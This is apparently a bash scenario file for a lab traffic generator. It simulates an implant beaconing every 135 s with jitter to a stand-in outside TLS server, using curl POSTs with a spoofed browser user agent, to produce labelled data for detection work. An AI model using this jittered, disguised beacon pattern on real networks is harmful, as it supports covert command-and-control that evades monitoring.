# shellcheck shell=bash disable=SC2034
TITLE='An implant-like client calls an outside TLS server every 135 s with 20 % jitter for six hours'
KIND=attack
ATTACKER=(203.0.113.77)
VICTIMS=(10.20.1.66)
NEEDS=(web intra)
PROGRAMS=(curl nginx-light unbound nsd)
STRETCH=60
ORIGIN='pc66 makes 160 small POST requests (64 bytes) with curl to https://api.metrics-sync.example (203.0.113.77), each a new connection, started 2.25 s +-20 % after the one before, while pc11 to pc14 browse at random times. Then record/stretch.py stretched the times by 60: the first packet of a connection moves to its original offset x 60, times inside a connection are unchanged; UDP, ARP and ICMP exchanges count as a connection that ends after 0.5 s of silence. Background and beacon follow the same rule. So the wanted interval is 135 s +-20 % over six hours; some starts come late on a busy machine, so a few intervals lie outside that. The resolver knew all names before the recording. HTTP Date headers and TCP timestamps inside packets still tell the recorded, unstretched time.'

warm_up() { know_names api.metrics-sync.example; }

millis() { echo $((${EPOCHREALTIME/./} / 1000)); }

attack() {
  local body next left
  body=$(printf 'id=7f3a&seq=%047d&ok=1' 0)
  for _ in $(seq 160); do
    next=$(($(millis) + 1800 + RANDOM % 901))
    on pc66 curl -sS -m 10 -o /dev/null -A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)' \
      -d "$body" https://api.metrics-sync.example/v1/ping
    left=$((next - $(millis)))
    ((left <= 0)) || nap "$left" "$left"
  done
}

scenario() {
  LIFE_LEAST=500 LIFE_MOST=6000 with_life 'pc11 pc12 pc13 pc14' attack
}
